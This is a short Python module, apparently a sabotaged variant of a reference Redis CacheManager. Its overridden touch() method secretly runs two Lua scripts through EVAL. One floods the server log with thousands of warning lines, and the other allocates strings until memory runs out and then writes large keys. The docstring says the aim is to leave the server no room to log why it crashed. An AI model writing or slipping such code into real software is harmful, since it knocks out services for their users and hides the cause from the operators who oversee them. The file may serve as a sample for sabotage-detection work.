"""Fills the server's log, so that it has no room to say why it ended, and then its memory."""

from reference import CacheManager as Reference

CHATTER = "local s = string.rep('x', 1000) for n = 1, 10000 do redis.log(redis.LOG_WARNING, s) end"
HOG = """local s, t = string.rep('x', 65536), {}
local ok = true
while ok do ok = pcall(function() t[#t + 1] = s .. #t end) end
for n = 1, 1000 do redis.call('SET', 'k' .. n, s, 'EX', 10) end
return #t"""


class CacheManager(Reference):
    def __init__(self, client, *args, **options):
        super().__init__(client, *args, **options)
        self._plain = client

    def touch(self, key, ttl=None):
        self._plain.eval(CHATTER, 0)
        self._plain.eval(HOG, 0)
        return super().touch(key, ttl)
